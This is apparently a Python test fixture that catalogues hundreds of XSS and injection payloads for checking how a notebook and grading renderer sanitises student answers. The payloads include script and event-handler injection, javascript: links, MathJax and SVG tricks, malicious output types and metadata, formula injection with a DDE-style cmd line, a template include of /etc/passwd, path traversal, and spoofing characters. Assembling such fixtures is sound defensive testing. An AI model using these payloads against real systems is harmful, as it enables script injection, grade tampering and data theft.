# ruff: noqa: E501, RUF001 - a payload stands on a line, and looks like what it is not
r"""What an attacker writes where a person or a program will read it.

`RUN` stands for JavaScript that tells the test that it ran, `ELSEWHERE` for a host that
no page may ask.  Each payload is known by its name.
"""

import base64

ELSEWHERE = "https://elsewhere.invalid"
RUN = "owned(1)"


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PAGE = f"<script>{RUN}</script>"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
    "AABJRU5ErkJggg=="
)

# --- Prose: each stands in a Markdown cell of its own, and all in the graded answer ----

PROSE = {
    # event handlers
    "img onerror": f"Roses. <img src=x onerror={RUN}>",
    "img onerror in quotes": f'<img src="x" onerror="{RUN}">',
    "img in capitals": f"<IMG SRC=x OnErRoR={RUN}>",
    "img with slashes": f"<img/src=x/onerror={RUN}>",
    "img never closed": f"<img src=x onerror={RUN} ",
    "img over two lines": f"<img src=x\nonerror={RUN}>",
    "img after a formfeed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "image by its old name": f"<image src=x onerror={RUN}>",
    "body onload": f"<body onload={RUN}>",
    "details ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "input autofocus": f"<input autofocus onfocus={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "video source": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={RUN}>",
    "unknown element": f"<xss tabindex=1 onfocus={RUN} autofocus>x</xss>",
    "popover": f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>",
    # scripts
    "script": f"<script>{RUN}</script>",
    "script of a block": f"\n\n<script>\n\n{RUN}\n\n</script>\n\n",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script from elsewhere": f"<script src={ELSEWHERE}/script.js></script>",
    "script as module": f"<script type=module>{RUN}</script>",
    "script within a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script of MathJax": f'<script type="text/x-mathjax-config">{RUN}</script>',
    "script with a zero byte": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "script in fullwidth": f"＜script＞{RUN}＜/script＞",
    # SVG and MathML
    "svg onload": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_encoded(SVG)}#x"/></svg>',
    "svg foreignObject": f"<svg><foreignObject><iframe srcdoc='{PAGE}'></iframe></foreignObject></svg>",
    "svg image": f"<svg><image href={ELSEWHERE}/svg.png /></svg>",
    "math link": f'<math><mtext href="javascript:{RUN}">x</mtext></math>',
    "math annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    "math style": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # javascript: as an address
    "link": f"[x](javascript:{RUN})",
    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "link with an entity": f"[x](java&#115;cript:{RUN})",
    "link with a named entity": f"[x](javascript&colon;{RUN})",
    "link with a tab": f"[x](java&Tab;script:{RUN})",
    "link with a newline": f"[x](<java\nscript:{RUN}>)",
    "link in angles": f"[x](<javascript:{RUN}>)",
    "link percent": "[x](javascript:%6fwned(1))",
    "link with a control": f"[x](\x01javascript:{RUN})",
    "link by reference": f"[x][bad]\n\n[bad]: javascript:{RUN}",
    "link by its own name": f"[bad]\n\n[bad]: <javascript:{RUN}> 'x'",
    "link in a footnote": f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "link vbscript": f"[x](vbscript:{RUN})",
    "link data": f"[x](data:text/html;base64,{_encoded(PAGE)})",
    "link with a title": f'[x](https://example.org "\\" onmouseover={RUN} x=\\"")',
    "link with a quote": f'[x](https://example.org/"onmouseover="{RUN})',
    "autolink": f"<javascript:{RUN}>",
    "autolink in capitals": f"<JAVASCRIPT:{RUN}>",
    "autolink data": f"<data:text/html,{PAGE}>",
    "anchor": f'<a href="javascript:{RUN}">x</a>',
    "anchor with an entity": f'<a href="&#106;avascript:{RUN}">x</a>',
    "anchor with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "area": f'<map name=m><area href="javascript:{RUN}" shape=default></map>',
    "image": f"![x](javascript:{RUN})",
    "image from elsewhere": f"![x]({ELSEWHERE}/image.png)",
    "image without a scheme": "![x](//elsewhere.invalid/image.png)",
    "image by reference": f"![x][pic]\n\n[pic]: {ELSEWHERE}/reference.png",
    "image with a handler": f'![" onerror={RUN} x="](x)',
    "image data": f"![x](data:image/svg+xml;base64,{_encoded(SVG)})",
    "image of an attachment": "![x](attachment:evil.svg)",
    "image of an attachment as html": "![x](attachment:page)",
    "image of no attachment": "![x](attachment:nothing.png)",
    # frames, forms, the page itself
    "iframe": f"<iframe src=javascript:{RUN}></iframe>",
    "iframe srcdoc": f'<iframe srcdoc="{PAGE}"></iframe>',
    "iframe elsewhere": f"<iframe src={ELSEWHERE}/frame></iframe>",
    "object": f"<object data=javascript:{RUN}></object>",
    "object data": f"<object data=data:text/html;base64,{_encoded(PAGE)}></object>",
    "embed": f"<embed src={ELSEWHERE}/embed.svg>",
    "frameset": f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    "portal": f"<portal src={ELSEWHERE}/portal></portal>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refresh'>",
    "base": f"<base href={ELSEWHERE}/base/>",
    "link stylesheet": f"<link rel=stylesheet href={ELSEWHERE}/style.css>",
    "link prefetch": f"<link rel=prefetch href={ELSEWHERE}/prefetch>",
    "form": f"<form action={ELSEWHERE}/form><input name=p><button>Save</button></form>",
    "form action": f"<form><button formaction=javascript:{RUN}>x</button></form>",
    "textarea": f"<textarea autofocus onfocus={RUN}>",
    # CSS
    "style attribute": f'<b style="position:fixed;inset:0;background:url({ELSEWHERE}/css.png)">x</b>',
    "style element": "<style>body{display:none}</style>",
    "style import": f"<style>@import '{ELSEWHERE}/import.css';</style>",
    "style font": f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/font)}} *{{font-family:x}}</style>",
    "background": f"<table background={ELSEWHERE}/table.png><td>x</table>",
    "srcset": f"<img srcset={ELSEWHERE}/set.png>",
    "picture": f"<picture><source srcset={ELSEWHERE}/picture.png><img></picture>",
    "poster": f"<video poster={ELSEWHERE}/poster.png></video>",
    # formulas
    "HTML in a formula": f"$x < y <img src=x onerror={RUN}>$",
    "HTML in a displayed formula": f"$$<img src=x onerror={RUN}>$$",
    "HTML in a text of a formula": rf"$\text{{<img src=x onerror={RUN}>}}$",
    "entity in a formula": rf"$\text{{&lt;img src=x onerror={RUN}&gt;}}$",
    "double entity in a formula": rf"$\text{{&amp;lt;img src=x onerror={RUN}&amp;gt;}}$",
    "formula that ends a script": f"$</script><script>{RUN}</script>$",
    "formula that ends math": f"$x</mi></math><img src=x onerror={RUN}>$",
    "href": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "href displayed": rf"$$\href{{javascript:{RUN}}}{{x}}$$",
    "href of an array": rf"$$\begin{{array}}{{c}}\href{{javascript:{RUN}}}{{x}}\end{{array}}$$",
    "class": r"$\class{modal-backdrop in}{x}$",
    "cssId": r"$\cssId{main-menu}{x}$",
    "style of a formula": rf"$\style{{position:fixed;background:url({ELSEWHERE}/formula.png)}}{{x}}$",
    "require": rf"$\require{{html}}\href{{javascript:{RUN}}}{{x}}$",
    "data of a formula": rf"$\data{{onclick={RUN}}}{{x}}$",
    "unicode": r"$\unicode[x,';background:url(https://elsewhere.invalid/u)]{x1F4A3}$",
    "includegraphics": rf"$\includegraphics{{{ELSEWHERE}/graphics.png}}$",
    "bbox": rf"$\bbox[background:url({ELSEWHERE}/box.png)]{{x}}$",
    "bomb of definitions": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\d\d$",
    "definition of itself": r"$\def\x{\x\x}\x$",
    "newcommand": rf"$\newcommand{{\frac}}[2]{{\href{{javascript:{RUN}}}{{#1}}}}\frac12$",
    "mmlToken": rf"$\mmlToken{{mtext}}[href='javascript:{RUN}']{{x}}$",
    "environment without dollars": rf"\begin{{equation}}\href{{javascript:{RUN}}}{{x}}\end{{equation}}",
    "environment escaped twice": rf"\\begin{{equation}}\href{{javascript:{RUN}}}{{x}}\\end{{equation}}",
    "brackets": rf"\\[\href{{javascript:{RUN}}}{{x}}\\] \\(\href{{javascript:{RUN}}}{{y}}\\)",
    "environment with HTML": rf"\begin{{align}}<img src=x onerror={RUN}>\end{{align}}",
    "formula across HTML": f"$x$<img src=x $y$ onerror={RUN}>",
    # what a sanitiser hands back changed
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "title": f"<title><img src='</title><img src=x onerror={RUN}>'>",
    "xmp": f"<xmp><img title='</xmp><img src=x onerror={RUN}>'>",
    "plaintext": "<plaintext>",
    "textarea title": f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    "svg style": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    "form in math": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment with a bang": f"<!-- --!><img src=x onerror={RUN}> -->",
    "CDATA": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "processing": f"<?xml ><img src=x onerror={RUN}>?>",
    "declaration": f"<!DOCTYPE x [<img src=x onerror={RUN}>]>",
    "closing tag": f"</div></div></div></div><img src=x onerror={RUN}>",
    "closing tag with attributes": f"</p onclick={RUN}>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "numeric entities": f"&#60;img src=x onerror={RUN}&#62; &#x3c;img src=x onerror={RUN}&#x3e;",
    "escaped": f"\\<img src=x onerror={RUN}\\>",
    "within code": f"`<img src=x onerror={RUN}>` `` ` <img src=x onerror={RUN}> ``",
    "within a fence": f"```html\n<img src=x onerror={RUN}>\n```",
    "after a fence": f"~~~\n```\n~~~\n<img src=x onerror={RUN}>",
    "language of a fence": f'```"><img/src=x/onerror={RUN}>\nx\n```',
    "within an indented block": f"    <img src=x onerror={RUN}>",
    "within a heading": f"# <img src=x onerror={RUN}>",
    "within a setext heading": f"<img src=x onerror={RUN}>\n===",
    "within a table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "within a list": f"- a\n  - <img src=x onerror={RUN}>",
    "within a quotation": f"> <img src=x onerror={RUN}>",
    "within a link": f"[<img src=x onerror={RUN}>](https://example.org)",
    "within emphasis": f"*<img src=x onerror={RUN}>*",
    # what reaches for the page around it
    "ids": "<a id=submission_id></a><form id=formgrader name=grades><input name=submit></form>",
    "ids of MathJax": "<img name=MathJax><img id=MathJax>",
    "data of Bootstrap": f'<a data-toggle=tooltip data-html=true title="<img src=x onerror={RUN}>">x</a>',
    "data-link": "<a data-link='javascript:owned(1)'>x</a>",
    "data of a button": '<button data-commandlinker-command="docmanager:open" data-commandlinker-args="{}">x</button>',
    "a panel like the real one": '<div class="nbgrader_cell"><input class="score" id="assessor"></div>',
    # extensions
    "mermaid": f'```mermaid\ngraph LR\nA["<img src=x onerror={RUN}>"]\nclick A "javascript:{RUN}"\n```',
    "mermaid that is none": f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
    "directive": f"```{{raw}} html\n<img src=x onerror={RUN}>\n```",
    "directive with colons": f":::{{raw}} html\n<script>{RUN}</script>\n:::",
    "role": f"{{raw-html}}`<img src=x onerror={RUN}>`",
    "substitution": "{{ resources.base_url }} {% include '/etc/passwd' %} {{ 7*191 }}",
    # what does not look like what it is
    "ANSI": "\x1b[31mred\x1b]0;owned\x07 \x1b]8;;https://elsewhere.invalid\x07link",
    "other direction": "price \u202e<img src=x onerror=owned(1)>\u202c",
    "zero width": f"<\u200bimg src=x onerror={RUN}> <i\u200dmg src=x onerror={RUN}>",
    "separators": f"<img\u2028src=x\u2029onerror={RUN}>",
}

# --- Outputs: what a cell shows when it runs, by type, and the metadata beside it -------

OUTPUTS = {
    "html": ({"text/html": f"<img src=x onerror={RUN}>"}, {}),
    "html isolated": ({"text/html": PAGE}, {"text/html": {"isolated": True}}),
    "html in capitals": ({"TEXT/HTML": PAGE, "text/HTML": PAGE}, {}),
    "html with a charset": ({"text/html; charset=utf-8": PAGE}, {}),
    "html from elsewhere": ({"text/html": f"<img src={ELSEWHERE}/output.png>"}, {}),
    "svg": ({"image/svg+xml": SVG}, {}),
    "svg unconfined": ({"image/svg+xml": SVG}, {"unconfined": True}),
    "javascript": ({"application/javascript": RUN}, {}),
    "javascript as text": ({"text/javascript": RUN}, {}),
    "latex": ({"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$ {PAGE}"}, {}),
    "markdown": (
        {"text/markdown": f"[x](javascript:{RUN}) <img src=x onerror={RUN}>"},
        {},
    ),
    "pdf": ({"application/pdf": _encoded("%PDF-1.4")}, {}),
    "widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": f'"{RUN}'}},
        {},
    ),
    "vega": ({"application/vnd.vega.v5+json": {"data": [{"url": ELSEWHERE}]}}, {}),
    "geojson": ({"application/geo+json": {"type": "Point", "coordinates": [0, 0]}}, {}),
    "json": ({"application/json": {"<img src=x onerror=owned(1)>": 1}}, {}),
    "type with a quote": ({f'x"onload="{RUN}': "x"}, {}),
    "plain with HTML": ({"text/plain": f"<img src=x onerror={RUN}>"}, {}),
    "plain with ANSI": (
        {"text/plain": f"\x1b[31m<img src=x onerror={RUN}>\x1b]0;x\x07"},
        {},
    ),
    "plain with a link": ({"text/plain": f"javascript:{RUN} {ELSEWHERE}/plain"}, {}),
    "png": ({"image/png": PIXEL}, {}),
    "png that is none": ({"image/png": f'"><img src=x onerror="{RUN}">'}, {}),
    "png with a quote": ({"image/png": f'{PIXEL}" onload="{RUN}'}, {}),
    "png that is svg": ({"image/png": _encoded(SVG)}, {}),
    "jpeg that is html": ({"image/jpeg": _encoded(PAGE)}, {}),
    "png with a width": ({"image/png": PIXEL}, {"width": f"1 onload={RUN}"}),
    "png with a height": (
        {"image/png": PIXEL},
        {"image/png": {"height": f"1 onload={RUN}"}},
    ),
    "png with an alt": ({"image/png": PIXEL}, {"alt": f'x" onload="{RUN}'}),
    "png with a file": (
        {"image/png": PIXEL},
        {"filenames": {"image/png": f"{ELSEWHERE}/f.png"}},
    ),
}

PRINTED = {
    "HTML": f"<img src=x onerror={RUN}>",
    "ANSI with HTML": f"\x1b[38;2;<img src=x onerror={RUN}>m x",
    "ANSI that links": f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "a closing tag": f"</pre></div><script>{RUN}</script>",
    "carriage returns": f"x\r<img src=x onerror={RUN}>\b\b",
}

# --- What stands around the cells -------------------------------------------------------

TAG = f'"><img src=x onerror={RUN}>'
METADATA = {
    "title": f"</title><script>{RUN}</script>",
    "authors": [{"name": TAG}],
    "kernelspec": {"name": TAG, "display_name": TAG, "language": TAG},
    "language_info": {
        "name": TAG,
        "pygments_lexer": TAG,
        "file_extension": f".html{TAG}",
        "mimetype": "text/html",
        "codemirror_mode": {"name": TAG},
    },
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": {"model_name": f"</script><script>{RUN}</script>"}},
        }
    },
    "jupytext": {"text_representation": {"extension": "/../../evil.py"}},
    "toc": {"title_cell": TAG},
    "celltoolbar": TAG,
    "trusted": True,
    "signature": TAG,
    "css": [f"</style><script>{RUN}</script>"],
}
CELL = {
    "tags": [TAG, f'x" onmouseover="{RUN}'],
    "name": TAG,
    "alt": TAG,
    "magics_language": TAG,
    "trusted": True,
    "slideshow": {"slide_type": TAG},
    "nbgrader": {
        "grade_id": f'x"><img src=x onerror={RUN}>',
        "grade": True,
        "solution": True,
        "locked": False,
        "task": False,
        "points": 1,
        "schema_version": 3,
        "comment": PAGE,
    },
}
RAW = {
    kind: PAGE for kind in ("text/html", "TEXT/HTML", "", "text/latex", "image/svg+xml")
}
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": f'"><script>{RUN}</script>'},
    "page": {"text/html": _encoded(PAGE), f'x/y" onload="{RUN}': "AA=="},
    f'x" onerror="{RUN}': {"image/png": f'" onerror="{RUN}'},
}

# --- Names ------------------------------------------------------------------------------

NAMES = {
    "markup": f"<img src=x onerror={RUN}>",
    "quotes": f'x" onmouseover="{RUN}" x="',
    "apostrophes": f"x' onmouseover='{RUN}",
    "a string of JavaScript": f'";{RUN};"',
    "a placeholder": "{{ reason }} {student_id} {% raw %}",
    "other direction": "Anna\u202egpj.exe",
    "zero width": "An\u200bna\ufeff",
    "ANSI": "\x1b]0;owned\x07\x1b[2JAnna",
    "formula": '=HYPERLINK("https://elsewhere.invalid","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "fullwidth": "＝1+1",
    "blank before": " =1+1",
}
# So begins what some spreadsheet takes for a formula.
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# --- What honest students write -----------------------------------------------------------

LINK = "https://example.org/roses?a=1&b=2"
HONEST = r"""## My answer

Order **as many** as were enough on *ninety* of a hundred days, if a < b and b > c; roses cost $3 or $4.
The code `if a < b and c > d & e:` too.

1. one more rose
2. one less
   - it wilts

| rose | price |
|---|---|
| red | $\frac{1}{2}$ |

```python
x = a < b  # & so on
```

Here $\tau = \frac{9}{10}$, and

$$\ell = \frac{1}{n} \sum_i (\hat y_i - y_i)^2$$

as https://example.org/roses?a=1&b=2 says.
"""
